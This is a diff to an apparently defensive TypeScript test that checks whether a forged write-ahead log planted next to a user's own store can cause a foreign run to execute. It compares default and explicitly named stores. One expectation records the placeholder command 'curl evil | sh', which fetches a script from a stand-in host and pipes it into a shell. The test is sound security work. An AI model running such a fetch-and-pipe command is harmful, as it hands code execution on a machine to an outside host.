@@ -91,20 +91,26 @@ const MARKS: readonly (readonly [string, string | undefined])[] = [
   ['with a mark that names another log', '{"log":"12345:1700000000000000000"}\n'],
 ]
 
-test.each(MARKS)('E28 a log that was put beside an own store grants nothing: %s', async (_, mark) => {
-  const run_id = await writeForgedStore(join(folder, 'theirs.db'))
-  useHome('victim')
-  const own = join(folder, 'own.db')
-  await (await createTroupe({ ...options, store: own })).close()
-  await writeFile(`${own}-wal`, toLog(await readFile(join(folder, 'theirs.db'))))
-  if (mark !== undefined) await writeFile(`${own}-mark`, mark)
-  // A command that only reads merges the log as well.
-  await (await createTroupe({ ...options, store: own })).close()
-  const troupe = await createTroupe({ ...options, store: own })
-  onTestFinished(() => troupe.close())
-  await (await troupe.resume(run_id)).result
-  expect(done).toEqual([])
-})
+test.each(MARKS.flatMap(([title, mark]) => [false, true].map((isNamed) => [title, isNamed, mark] as const)))(
+  'E28 a log that was put beside an own store executes nothing: %s (named store as a control: %s)',
+  async (_, isNamed, mark) => {
+    const run_id = await writeForgedStore(join(folder, 'theirs.db'))
+    useHome('victim')
+    const own = join(folder, 'own.db')
+    const place = isNamed ? { store: own } : { defaultStore: own }
+    await (await createTroupe({ ...options, ...place })).close()
+    await writeFile(`${own}-wal`, toLog(await readFile(join(folder, 'theirs.db'))))
+    if (mark !== undefined) await writeFile(`${own}-mark`, mark)
+    // A command that only reads merges the log as well.
+    await (await createTroupe({ ...options, ...place })).close()
+    const troupe = await createTroupe({ ...options, ...place })
+    onTestFinished(() => troupe.close())
+    const resuming = troupe.resume(run_id)
+    if (isNamed) await (await resuming).result
+    else await expect(resuming).rejects.toMatchObject({ code: 'store_not_yours' })
+    expect(done).toEqual(isNamed ? ['curl evil | sh'] : [])
+  },
+)
 
 test('E28 the log of an own process that was killed stays own', async (context) => {
   recordAttempts(context, 'store', { attempts: 0 })
